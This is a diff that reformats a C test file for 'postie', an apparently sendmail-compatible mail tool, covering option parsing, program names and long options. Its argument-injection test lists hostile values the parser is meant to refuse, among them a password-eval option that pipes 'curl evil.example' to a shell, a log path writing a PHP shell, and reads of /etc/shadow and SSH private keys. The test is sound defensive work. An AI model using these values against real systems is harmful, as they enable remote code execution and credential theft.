+     {.sender = "--tls", .overrides = "tls=on"}},
+    {"--rmqs is not offered", {"postie", "--rmqs=x", NULL}, "--rmqs=x: unknown option", {0}},
+    {"--tls-force-sslv3 is not offered",
+     {"postie", "--tls-force-sslv3", NULL},
+     "unknown option",
+     {0}},
 
-	/* Unknown flags. */
-	{"-Z", {"postie", "-Z", "a@x.org", NULL},
-		"parse flags: -Z: unknown option; see postie --help", {0}},
-	{"-tZ", {"postie", "-tZ", NULL}, "unknown option", {0}},
-	{"--no-such-flag", {"postie", "--no-such-flag", NULL}, "--no-such-flag: unknown option",
-		{0}},
-	{"-s (mailx's subject, not sendmail's)", {"postie", "-s", "hi", NULL}, "unknown option",
-		{0}},
+    /* Unknown flags. */
+    {"-Z",
+     {"postie", "-Z", "a@x.org", NULL},
+     "parse flags: -Z: unknown option; see postie --help",
+     {0}},
+    {"-tZ", {"postie", "-tZ", NULL}, "unknown option", {0}},
+    {"--no-such-flag", {"postie", "--no-such-flag", NULL}, "--no-such-flag: unknown option", {0}},
+    {"-s (mailx's subject, not sendmail's)", {"postie", "-s", "hi", NULL}, "unknown option", {0}},
 
-	/* SEC-21: the first operand and "--" end the options. */
-	{"flags after an operand are recipients", {"postie", "a@x.org", "-v", "-X/tmp/x", NULL},
-		NULL, {.rcpts = "a@x.org|-v|-X/tmp/x"}},
-	{"-- then a recipient beginning with '-'", {"postie", "--", "-bob@x.org", NULL}, NULL,
-		{.rcpts = "-bob@x.org"}},
-	{"-- then --help", {"postie", "-t", "--", "--help", "--tls", NULL}, NULL,
-		{.t = true, .rcpts = "--help|--tls"}},
-	{"a second -- is a recipient", {"postie", "--", "--", NULL}, NULL, {.rcpts = "--"}},
-	{"'-' alone is an operand", {"postie", "-", "-v", NULL}, NULL, {.rcpts = "-|-v"}},
+    /* SEC-21: the first operand and "--" end the options. */
+    {"flags after an operand are recipients",
+     {"postie", "a@x.org", "-v", "-X/tmp/x", NULL},
+     NULL,
+     {.rcpts = "a@x.org|-v|-X/tmp/x"}},
+    {"-- then a recipient beginning with '-'",
+     {"postie", "--", "-bob@x.org", NULL},
+     NULL,
+     {.rcpts = "-bob@x.org"}},
+    {"-- then --help",
+     {"postie", "-t", "--", "--help", "--tls", NULL},
+     NULL,
+     {.t = true, .rcpts = "--help|--tls"}},
+    {"a second -- is a recipient", {"postie", "--", "--", NULL}, NULL, {.rcpts = "--"}},
+    {"'-' alone is an operand", {"postie", "-", "-v", NULL}, NULL, {.rcpts = "-|-v"}},
 
-	/* Names. */
-	{"mailq", {"mailq", NULL}, NULL, {.mode = CLI_LIST}},
-	{"/usr/bin/mailq", {"/usr/bin/mailq", NULL}, NULL, {.mode = CLI_LIST}},
-	{"mailq -v", {"mailq", "-v", NULL}, NULL, {.mode = CLI_LIST, .v = true}},
-	{"mailq with a recipient", {"mailq", "a@x.org", NULL}, "-bp (mailq) takes no recipients",
-		{0}},
-	{"newaliases", {"newaliases", NULL}, NULL, {.mode = CLI_NEWALIASES}},
-	{"/usr/sbin/newaliases", {"/usr/sbin/newaliases", NULL}, NULL, {.mode = CLI_NEWALIASES}},
-	{"newaliases with an operand", {"newaliases", "/etc/aliases", NULL},
-		"-bi (newaliases) takes no recipients", {0}},
-	{"newaliases -bp lists the queue (flags win over the name)", {"newaliases", "-bp", NULL},
-		NULL, {.mode = CLI_LIST}},
-	{"mailq -bm sends", {"mailq", "-bm", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
-	{"sendmail", {"sendmail", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
-	{"/usr/sbin/sendmail", {"/usr/sbin/sendmail", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
-	{"/usr/lib/sendmail", {"/usr/lib/sendmail", "-t", NULL}, NULL, {.t = true}},
-	{"send-mail", {"send-mail", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
-	{"/usr/sbin/send-mail", {"/usr/sbin/send-mail", "-t", NULL}, NULL, {.t = true}},
-	{"postie", {"/usr/local/bin/postie", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
-	{"mailq.sh is not mailq", {"/opt/mailq.sh", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
-	{"a directory called mailq", {"/mailq/sendmail", "a@x.org", NULL}, NULL,
-		{.rcpts = "a@x.org"}},
+    /* Names. */
+    {"mailq", {"mailq", NULL}, NULL, {.mode = CLI_LIST}},
+    {"/usr/bin/mailq", {"/usr/bin/mailq", NULL}, NULL, {.mode = CLI_LIST}},
+    {"mailq -v", {"mailq", "-v", NULL}, NULL, {.mode = CLI_LIST, .v = true}},
+    {"mailq with a recipient", {"mailq", "a@x.org", NULL}, "-bp (mailq) takes no recipients", {0}},
+    {"newaliases", {"newaliases", NULL}, NULL, {.mode = CLI_NEWALIASES}},
+    {"/usr/sbin/newaliases", {"/usr/sbin/newaliases", NULL}, NULL, {.mode = CLI_NEWALIASES}},
+    {"newaliases with an operand",
+     {"newaliases", "/etc/aliases", NULL},
+     "-bi (newaliases) takes no recipients",
+     {0}},
+    {"newaliases -bp lists the queue (flags win over the name)",
+     {"newaliases", "-bp", NULL},
+     NULL,
+     {.mode = CLI_LIST}},
+    {"mailq -bm sends", {"mailq", "-bm", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
+    {"sendmail", {"sendmail", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
+    {"/usr/sbin/sendmail", {"/usr/sbin/sendmail", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
+    {"/usr/lib/sendmail", {"/usr/lib/sendmail", "-t", NULL}, NULL, {.t = true}},
+    {"send-mail", {"send-mail", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
+    {"/usr/sbin/send-mail", {"/usr/sbin/send-mail", "-t", NULL}, NULL, {.t = true}},
+    {"postie", {"/usr/local/bin/postie", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
+    {"mailq.sh is not mailq", {"/opt/mailq.sh", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
+    {"a directory called mailq", {"/mailq/sendmail", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
 
-	/* Everything at once. */
-	{"-Nnever -Rhdrs -Vid1 -B7BIT -ti -f<> -F Me rcpt", {"sendmail", "-Nnever", "-Rhdrs",
-		"-Vid1", "-B7BIT", "-ti", "-f<>", "-F", "Me", "a@x.org", NULL}, NULL,
-		{.notify = "NEVER", .ret = "HDRS", .envid = "id1", .body = 7, .t = true,
-			.i = true, .sender = "", .fullname = "Me", .rcpts = "a@x.org"}},
+    /* Everything at once. */
+    {"-Nnever -Rhdrs -Vid1 -B7BIT -ti -f<> -F Me rcpt",
+     {"sendmail", "-Nnever", "-Rhdrs", "-Vid1", "-B7BIT", "-ti", "-f<>", "-F", "Me", "a@x.org",
+      NULL},
+     NULL,
+     {.notify = "NEVER",
+      .ret = "HDRS",
+      .envid = "id1",
+      .body = 7,
+      .t = true,
+      .i = true,
+      .sender = "",
+      .fullname = "Me",
+      .rcpts = "a@x.org"}},
 };
 
 #define NROWS (sizeof(rows) / sizeof(rows[0]))
@@ -323,24 +405,24 @@ join_overrides(const struct opts *o, char *out, size_t cap)
 	out[0] = '\0';
 	for (size_t i = 0; i < o->noverrides; i++)
 		k += (size_t)snprintf(out + k, cap - k, "%s%s=%s", i ? "|" : "",
-			o->overrides[i].name, o->overrides[i].value);
+		                      o->overrides[i].name, o->overrides[i].value);
 	return o->noverrides ? out : NULL;
 }
 
-#define CHECK_STR(field, wfield) \
-	do { \
-		if (!same_str(o.field, w->wfield)) { \
-			printf("#   %s: got \"%s\", want \"%s\"\n", #field, \
-				o.field ? o.field : "(null)", w->wfield ? w->wfield : "(null)"); \
-			good = false; \
-		} \
+#define CHECK_STR(field, wfield)                                                                   \
+	do {                                                                                       \
+		if (!same_str(o.field, w->wfield)) {                                               \
+			printf("#   %s: got \"%s\", want \"%s\"\n", #field,                        \
+			       o.field ? o.field : "(null)", w->wfield ? w->wfield : "(null)");    \
+			good = false;                                                              \
+		}                                                                                  \
 	} while (0)
-#define CHECK_VAL(field, wfield) \
-	do { \
-		if ((int)o.field != (int)w->wfield) { \
+#define CHECK_VAL(field, wfield)                                                                   \
+	do {                                                                                       \
+		if ((int)o.field != (int)w->wfield) {                                              \
 			printf("#   %s: got %d, want %d\n", #field, (int)o.field, (int)w->wfield); \
-			good = false; \
-		} \
+			good = false;                                                              \
+		}                                                                                  \
 	} while (0)
 
 static void
@@ -355,11 +437,11 @@ run_row(const struct row *r)
 	err_clear(&e);
 	int rc = cli_parse(&o, argc, r->argv, &e);
 	if (r->err) {
-		bool empty = !o.rcpts && !o.sender && !o.overrides && !o.ignored &&
-			o.mode == CLI_SEND;
+		bool empty =
+		    !o.rcpts && !o.sender && !o.overrides && !o.ignored && o.mode == CLI_SEND;
 		ok(rc < 0 && e.kind == ERR_USAGE && strstr(e.text, r->err) && empty,
-			"%s: refused with \"%s\" (got %d, kind %d, \"%s\")", r->name, r->err, rc,
-			(int)e.kind, e.text);
+		   "%s: refused with \"%s\" (got %d, kind %d, \"%s\")", r->name, r->err, rc,
+		   (int)e.kind, e.text);
 		return;
 	}
 	if (!ok(rc == 0, "%s: parses", r->name)) {
@@ -391,18 +473,18 @@ run_row(const struct row *r)
 	CHECK_STR(ignored, ignored);
 	if (!same_str(rcpts, w->rcpts)) {
 		printf("#   rcpts: got \"%s\", want \"%s\"\n", rcpts ? rcpts : "(none)",
-			w->rcpts ? w->rcpts : "(none)");
+		       w->rcpts ? w->rcpts : "(none)");
 		good = false;
 	}
 	if (!same_str(ovr, w->overrides)) {
 		printf("#   overrides: got \"%s\", want \"%s\"\n", ovr ? ovr : "(none)",
-			w->overrides ? w->overrides : "(none)");
+		       w->overrides ? w->overrides : "(none)");
 		good = false;
 	}
 	ok(good, "%s: every field as expected", r->name);
 	cli_fini(&o);
 	ok(o.rcpts == NULL && o.overrides == NULL && o.sender == NULL,
-		"%s: cli_fini leaves it empty", r->name);
+	   "%s: cli_fini leaves it empty", r->name);
 }
 
 /*
@@ -417,18 +499,33 @@ long_options(void)
 		const char *flag;
 		bool optional;
 	} all[] = {
-		{"host", false}, {"port", false}, {"timeout", false}, {"protocol", false},
-		{"domain", false}, {"auth", true}, {"user", false},
-		{"tls", true}, {"tls-starttls", true},
-		{"tls-fingerprint", false},
-		{"tls-certcheck", true}, {"tls-priorities", false},
-		{"tls-host-override", false}, {"tls-min-dh-prime-bits", false},
-		{"maildomain", false}, {"auto-from", true},
-		{"set-date-header", true}, {"set-msgid-header", true}, {"remove-bcc-headers", true},
-		{"undisclosed-recipients", true}, {"source-ip", false}, {"proxy-host", false},
-		{"proxy-port", false}, {"socket", false},
-		{"logfile-time-format", false}, {"syslog", true},
-		{"from-full-name", false},
+	    {"host", false},
+	    {"port", false},
+	    {"timeout", false},
+	    {"protocol", false},
+	    {"domain", false},
+	    {"auth", true},
+	    {"user", false},
+	    {"tls", true},
+	    {"tls-starttls", true},
+	    {"tls-fingerprint", false},
+	    {"tls-certcheck", true},
+	    {"tls-priorities", false},
+	    {"tls-host-override", false},
+	    {"tls-min-dh-prime-bits", false},
+	    {"maildomain", false},
+	    {"auto-from", true},
+	    {"set-date-header", true},
+	    {"set-msgid-header", true},
+	    {"remove-bcc-headers", true},
+	    {"undisclosed-recipients", true},
+	    {"source-ip", false},
+	    {"proxy-host", false},
+	    {"proxy-port", false},
+	    {"socket", false},
+	    {"logfile-time-format", false},
+	    {"syslog", true},
+	    {"from-full-name", false},
 	};
 
 	for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++) {
@@ -445,9 +542,9 @@ long_options(void)
 		int rc = cli_parse(&o, 3, argv1, &e);
 		if (rc == 0 && o.noverrides == 1)
 			snprintf(got, sizeof(got), "%s=%s", o.overrides[0].name,
-				o.overrides[0].value);
+			         o.overrides[0].value);
 		ok(rc == 0 && strcmp(got, want) == 0 && o.nrcpts == 1,
-			"%s: override %s (got \"%s\")", flag, want, got);
+		   "%s: override %s (got \"%s\")", flag, want, got);
 		if (rc == 0)
 			cli_fini(&o);
 
@@ -458,11 +555,11 @@ long_options(void)
 		got[0] = '\0';
 		if (rc == 0 && o.noverrides == 1)
 			snprintf(got, sizeof(got), "%s=%s", o.overrides[0].name,
-				o.overrides[0].value);
+			         o.overrides[0].value);
 		snprintf(want, sizeof(want), "%s=%s", name, all[i].optional ? "on" : "x");
 		ok(rc == 0 && strcmp(got, want) == 0 && o.nrcpts == (all[i].optional ? 2u : 1u),
-			"%s x a@x.org: override %s and %d recipient(s) (got \"%s\")", flag, want,
-			all[i].optional ? 2 : 1, got);
+		   "%s x a@x.org: override %s and %d recipient(s) (got \"%s\")", flag, want,
+		   all[i].optional ? 2 : 1, got);
 		if (rc == 0)
 			cli_fini(&o);
 	}
@@ -479,24 +576,24 @@ static void
 argv_injection(void)
 {
 	static const char *const refused[][2] = {
-		{"--logfile=/var/www/shell.php", "write any file"},
-		{"--logfile", "write any file"},
-		{"--passwordeval=curl evil.example|sh", "run any command"},
-		{"--aliases=/home/u/.ssh/id_rsa", "read any file"},
-		{"--aliases=", "read any file"},
-		{"--tls-trust-file=/etc/shadow", "read any file"},
-		{"--tls-crl-file=/dev/zero", "read any file"},
-		{"--tls-key-file=/home/u/.ssh/id_rsa", "read any file"},
-		{"--tls-cert-file=/home/u/c.pem", "read any file"},
-		{"--logfile=", "write any file"},
-		{"--keepbcc=on", "reveal the Bcc"},
-		{"--remove-bcc-headers=off", "never off"},
-		{"--undisclosed-recipients=off", "never off"},
-		{"--syslog=off", "never off"},
-		{"--allow-from-override", "only to off"},
-		{"--allow-from-override=on", "only to off"},
-		{"--set-from-header=off", "only to on"},
-		{"--set-from-header=auto", "only to on"},
+	    {"--logfile=/var/www/shell.php", "write any file"},
+	    {"--logfile", "write any file"},
+	    {"--passwordeval=curl evil.example|sh", "run any command"},
+	    {"--aliases=/home/u/.ssh/id_rsa", "read any file"},
+	    {"--aliases=", "read any file"},
+	    {"--tls-trust-file=/etc/shadow", "read any file"},
+	    {"--tls-crl-file=/dev/zero", "read any file"},
+	    {"--tls-key-file=/home/u/.ssh/id_rsa", "read any file"},
+	    {"--tls-cert-file=/home/u/c.pem", "read any file"},
+	    {"--logfile=", "write any file"},
+	    {"--keepbcc=on", "reveal the Bcc"},
+	    {"--remove-bcc-headers=off", "never off"},
+	    {"--undisclosed-recipients=off", "never off"},
+	    {"--syslog=off", "never off"},
+	    {"--allow-from-override", "only to off"},
+	    {"--allow-from-override=on", "only to off"},
+	    {"--set-from-header=off", "only to on"},
+	    {"--set-from-header=auto", "only to on"},
 	};
 	for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++) {
 		struct opts o;
@@ -504,22 +601,26 @@ argv_injection(void)
 		const char *argv[] = {"sendmail", refused[i][0], "x.php", "a@x.org", NULL};
 		int rc = cli_parse(&o, 4, argv, &e);
 		ok(rc < 0 && e.kind == ERR_USAGE && strstr(e.text, refused[i][1]) &&
-			strstr(e.text, "in the profile"), "%s refused: %s", refused[i][0],
-			rc < 0 ? e.text : "accepted");
+		       strstr(e.text, "in the profile"),
+		   "%s refused: %s", refused[i][0], rc < 0 ? e.text : "accepted");
 		if (rc == 0)
 			cli_fini(&o);
 	}
 	/* The stricter values are taken. */
-	static const char *const stricter[] = {"--allow-from-override=off", "--set-from-header=on",
-		"--remove-bcc-headers", "--undisclosed-recipients=on", "--syslog=LOG_MAIL",
-		"--tls-trust-file=system", "--logfile=-"};
+	static const char *const stricter[] = {"--allow-from-override=off",
+	                                       "--set-from-header=on",
+	                                       "--remove-bcc-headers",
+	                                       "--undisclosed-recipients=on",
+	                                       "--syslog=LOG_MAIL",
+	                                       "--tls-trust-file=system",
+	                                       "--logfile=-"};
 	for (size_t i = 0; i < sizeof(stricter) / sizeof(stricter[0]); i++) {
 		struct opts so;
 		struct err se;
 		const char *argv[] = {"sendmail", stricter[i], "a@x.org", NULL};
 		int rc = cli_parse(&so, 3, argv, &se);
 		ok(rc == 0 && so.noverrides == 1, "%s taken: %s", stricter[i],
-			rc < 0 ? se.text : "yes");
+		   rc < 0 ? se.text : "yes");
 		if (rc == 0)
 			cli_fini(&so);
 	}
@@ -531,13 +632,13 @@ argv_injection(void)
 	const char *venv[] = {"postie", "-V", plus, "a@x.org", NULL};
 	int vr = cli_parse(&o, 4, venv, &e);
 	ok(vr < 0 && e.kind == ERR_USAGE && strstr(e.text, "once encoded"),
-		"-V of 40 '+' (120 once encoded) refused before anything is queued");
+	   "-V of 40 '+' (120 once encoded) refused before anything is queued");
 	if (vr == 0)
 		cli_fini(&o);
 	const char *argv[] = {"postie", "--logfile=-", "a@x.org", NULL};
 	int rc = cli_parse(&o, 3, argv, &e);
 	ok(rc == 0 && o.noverrides == 1 && strcmp(o.overrides[0].value, "-") == 0,
-		"--logfile=- (standard output) is taken");
+	   "--logfile=- (standard output) is taken");
 	if (rc == 0)
 		cli_fini(&o);
 }
@@ -564,10 +665,16 @@ names(void)
 		const char *argv0;
 		enum cli_mode mode;
 	} t[] = {
-		{"mailq", CLI_LIST}, {"/usr/bin/mailq", CLI_LIST}, {"newaliases", CLI_NEWALIASES},
-		{"/usr/bin/newaliases", CLI_NEWALIASES}, {"sendmail", CLI_SEND},
-		{"/usr/lib/sendmail", CLI_SEND}, {"send-mail", CLI_SEND}, {"postie", CLI_SEND},
-		{"mailqq", CLI_SEND}, {"", CLI_SEND},
+	    {"mailq", CLI_LIST},
+	    {"/usr/bin/mailq", CLI_LIST},
+	    {"newaliases", CLI_NEWALIASES},
+	    {"/usr/bin/newaliases", CLI_NEWALIASES},
+	    {"sendmail", CLI_SEND},
+	    {"/usr/lib/sendmail", CLI_SEND},
+	    {"send-mail", CLI_SEND},
+	    {"postie", CLI_SEND},
+	    {"mailqq", CLI_SEND},
+	    {"", CLI_SEND},
 	};
 	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
 		struct opts o;
@@ -590,8 +697,9 @@ usage(void)
 	FILE *f = open_memstream(&text, &len);
 	cli_usage(f);
 	fclose(f);
-	static const char *const want[] = {"-t", "-f ADDR", "-N never", "-bs", "-bv", "--pretend",
-		"--serverinfo", "-X FILE", "--tls[=on|off]", "Exit status"};
+	static const char *const want[] = {
+	    "-t",           "-f ADDR", "-N never",       "-bs",        "-bv", "--pretend",
+	    "--serverinfo", "-X FILE", "--tls[=on|off]", "Exit status"};
 	for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++)
 		ok(strstr(text, want[i]) != NULL, "usage mentions %s", want[i]);
 	free(text);
